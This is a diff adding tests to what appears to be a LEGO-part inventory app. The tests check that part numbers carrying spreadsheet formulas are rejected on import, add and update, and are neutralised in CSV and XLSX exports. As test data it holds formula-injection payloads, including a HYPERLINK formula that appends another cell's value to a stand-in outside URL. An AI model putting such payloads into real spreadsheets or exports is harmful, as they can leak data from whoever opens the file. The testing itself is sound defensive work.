@@ -4,9 +4,12 @@
 import { execFile } from 'node:child_process';
 import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
+import ExcelJS from 'exceljs';
 import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { Core } from '../../src/main/core';
-import type { ImportPreview } from '../../src/shared/contract';
+import type { ExportResult, ImportPreview } from '../../src/shared/contract';
+import type { CreateOutcome } from '../../src/shared/types';
+import { unwrap } from '../../src/shared/errors';
 import { cleanupTempDirs, makeCore, repoRoot, tempDir } from '../helpers';
 import { SST_HEAD, part, repeatedPart, sheetPart, workbook, zip } from './zip';
 
@@ -124,5 +127,79 @@ describe('XLSX that expands without bound', () => {
     });
     expect(stderr).toMatch(/cli-bomb\.xlsx: .*xl\/sharedStrings\.xml.*refused/);
     expect(code).toBe(1);
+  });
+});
+
+describe('part numbers that a spreadsheet would run', () => {
+  const HYPER = '=HYPERLINK("https://x"&G3,"3001")';
+
+  it('are invalid rows on import (CSV and XLSX), reported as FILE:ROW: field: reason', async () => {
+    const csv = write(
+      'hyper.csv',
+      `Part,Color,Quantity\r\n"${HYPER.replaceAll('"', '""')}",4,1\r\n"'${HYPER.replaceAll('"', '""')}",4,1\r\n3001_x,4,1\r\n3001,4,2\r\n3069b,71,1\r\n`,
+    );
+    const r = await core.invoke('import.preview', { file: token(csv) });
+    const p = unwrap(r) as ImportPreview;
+    expect(p).toMatchObject({ rows: 5, valid: 2, invalidCount: 3 });
+    expect(p.invalid.map((x) => `${x.file}:${x.row}: ${x.field}: ${x.reason}`)).toEqual([
+      'hyper.csv:2: Part: may hold only letters, digits, “-” and “.”',
+      'hyper.csv:3: Part: may hold only letters, digits, “-” and “.”',
+      'hyper.csv:4: Part: may hold only letters, digits, “-” and “.”',
+    ]);
+
+    const xlsx = path.join(tempDir('bs-hostile-'), 'hyper.xlsx');
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('Parts');
+    ws.addRow(['Part', 'Color', 'Quantity']);
+    ws.addRow([HYPER, 4, 1]);
+    ws.addRow(['x'.repeat(41), 4, 1]);
+    await wb.xlsx.writeFile(xlsx);
+    const x = await core.invoke('import.preview', { file: token(xlsx) });
+    expect(x.ok && (x.data as ImportPreview).invalid.map((i) => `${i.row}: ${i.field}: ${i.reason}`)).toEqual([
+      '2: Part: may hold only letters, digits, “-” and “.”',
+      '3: Part: is longer than 40 characters',
+    ]);
+  });
+
+  it('are refused by add and update', async () => {
+    const add = await core.invoke('inventory.create', { lot: { partId: HYPER, colorId: 4, quantityTotal: 1 } });
+    expect(add).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
+    expect(JSON.stringify(add)).toContain('lot.partId');
+    const made = unwrap(await core.invoke('inventory.create', { lot: { partId: '973pb1234c01', colorId: 4, quantityTotal: 1 } })) as CreateOutcome;
+    const id = made.status === 'duplicate' ? made.existing.id : made.lot.id;
+    const upd = await core.invoke('inventory.update', { id, patch: { partId: '@SUM(1+1)' } });
+    expect(upd).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
+    expect(lotRows()).toMatchObject([{ part_id: '973pb1234c01' }]);
+  });
+
+  it('are neutralised in every exported cell (CSV and XLSX) by the same rule; plain numbers stay', async () => {
+    for (const lot of [
+      { partId: '3001', colorId: 4, quantityTotal: 2, storageLocation: '-5' },
+      { partId: '-1', colorId: 0, quantityTotal: 1, storageLocation: '-5 shelf', name: '+Tile' },
+      { partId: '3069b', colorId: 71, quantityTotal: 1, storageLocation: 'Box' },
+    ]) {
+      expect((await core.invoke('inventory.create', { lot })).ok).toBe(true);
+    }
+    // A lot stored before part numbers were checked.
+    core.db.sqlite.prepare(`UPDATE inventory_items SET part_id = ? WHERE part_id = '3069b'`).run(HYPER);
+    const dir = tempDir('bs-hostile-out-');
+    const out = async (format: string, name: string) => {
+      const file = path.join(dir, name);
+      const r = unwrap(await core.invoke('export.run', { file: token(file, 'write'), format })) as ExportResult;
+      expect(r.lots).toBe(3);
+      return file;
+    };
+    const quoted = `"'${HYPER.replaceAll('"', '""')}"`;
+    const bs = readFileSync(await out('blockshelf-csv', 'a.csv'), 'utf8').split('\r\n');
+    expect(bs).toEqual(expect.arrayContaining([',3001,4,2,0,-5,,', "'+Tile,-1,0,1,0,'-5 shelf,,", `,${quoted},71,1,0,Box,,`]));
+    const rb = readFileSync(await out('rebrickable-csv', 'b.csv'), 'utf8').split('\r\n');
+    expect(rb).toEqual(expect.arrayContaining(['3001,4,2,,-5,False,False', `${quoted},71,1,,Box,False,False`]));
+
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(await out('xlsx', 'c.xlsx'));
+    const sheetRows = wb.worksheets[0]!.getSheetValues().slice(2) as unknown[][];
+    expect(sheetRows.map((r) => r[2]).sort()).toEqual([`'${HYPER}`, '-1', '3001']);
+    expect(sheetRows.map((r) => r[1])).toContain("'+Tile");
+    expect(sheetRows.map((r) => r[7])).toEqual(expect.arrayContaining(['-5', "'-5 shelf"]));
   });
 });
